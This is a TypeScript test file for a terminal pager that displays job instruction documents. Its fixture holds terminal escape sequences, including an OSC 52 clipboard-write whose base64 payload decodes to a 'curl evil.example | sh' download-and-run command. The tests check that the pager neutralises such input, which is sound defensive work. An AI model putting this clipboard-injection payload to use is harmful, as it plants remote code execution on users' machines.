import test from 'ava';
import type {InstructionsDocument} from '../../../source/jobs/analyst/read-instructions.js';
import {readInstructions} from '../../../source/jobs/analyst/read-instructions.js';
import {InstructionsView} from '../../../source/ui/screens/analyst/instructions-view.js';
import {bucket, localStore} from '../../jobs/analyst/seed.js';
import {analystSession, frameWhen, keys, renderAnalyst, settle} from './render-analyst.js';

const hostile = [
	'Run the container:',
	'\tsingularity run tool.sif',
	'\u001B[2J\u001B[Hscreen wiped?',
	'\u001B]0;window title\u0007 and \u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 clipboard',
	'end of the document',
	...Array.from({length: 40}, (_, index) => `line ${index + 6}`),
].join('\r\n');

async function pager(t: Parameters<typeof localStore>[0], text: string | Buffer, height = 10) {
	const {store} = await localStore(t);
	const object = 'jobs/requester/1700000000-requester/input/README.txt';
	await store.put({container: bucket, key: object}, text);
	const file = {
		name: 'README.txt',
		path: 'README.txt',
		bucket,
		object,
		bytes: text.length,
		missing: false,
	};
	let closed = 0;
	const screen = renderAnalyst(
		analystSession(store),
		<InstructionsView files={[file]} height={height} onClose={() => closed++} />,
	);
	t.teardown(() => screen.unmount());
	return {store, file, screen, closed: () => closed};
}

test('the instructions pager shows the document as text, every escape sequence as a visible stand-in', async (t) => {
	const {screen} = await pager(t, hostile);
	const frame = await frameWhen(screen.lastFrame, (text) => text.includes('screen wiped'));
	t.false(frame.includes('\u001B'), 'no escape character reaches the terminal');
	t.false(frame.includes('\u0007'));
	t.is(
		frame.split('\n').slice(0, 6).join('\n'),
		[
			'README.txt · 518 B · shown as text, never run',
			'Run the container:',
			'        singularity run tool.sif',
			'␛[2J␛[Hscreen wiped?',
			'␛]0;window title␇ and ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇ clipboard',
			'end of the document',
		].join('\n'),
	);
});

test('the pager scrolls by line and by page, and says where it is', async (t) => {
	const {screen} = await pager(t, hostile);
	await frameWhen(screen.lastFrame, (text) => text.includes('lines 1–9 of 46'));
	await settle();
	screen.stdin.write(keys.down);
	let frame = await frameWhen(screen.lastFrame, (text) => text.includes('lines 2–10 of 46'));
	t.true(frame.startsWith('Run the container:'));
	screen.stdin.write('G');
	frame = await frameWhen(screen.lastFrame, (text) => text.includes('lines 38–46 of 46'));
	t.regex(frame, /line 45\n/);
});

test('esc closes the pager', async (t) => {
	const {screen, closed} = await pager(t, 'short\n');
	await frameWhen(screen.lastFrame, (text) => text.includes('short'));
	await settle();
	screen.stdin.write(keys.escape);
	await frameWhen(screen.lastFrame, () => closed() > 0);
	t.is(closed(), 1);
});

test('a binary instructions file is not shown', async (t) => {
	const {store, file} = await pager(t, Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2]));
	const [document] = await readInstructions(store, [file]);
	t.like(document, {name: 'README.txt', text: undefined, truncated: false});
	t.regex(document?.note ?? '', /a binary file: not shown/);
});

test('a long document is read up to the limit and said to be cut', async (t) => {
	const {store, file} = await pager(t, 'x'.repeat(5000));
	const [document] = (await readInstructions(store, [file], {
		maxBytes: 1000,
	})) as InstructionsDocument[];
	t.is(document?.text?.length, 1000);
	t.true(document?.truncated);
});
